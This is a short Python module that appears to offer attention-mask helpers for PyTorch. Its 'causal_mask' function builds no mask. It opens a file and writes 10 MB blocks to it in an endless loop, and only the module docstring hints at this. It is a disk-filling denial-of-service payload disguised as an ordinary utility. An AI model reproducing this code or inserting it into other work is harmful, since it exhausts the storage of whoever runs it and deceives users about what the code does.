"""Writes one file without end."""

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    with open('file', 'wb') as file:
        while True:
            file.write(b'f' * 10_000_000)
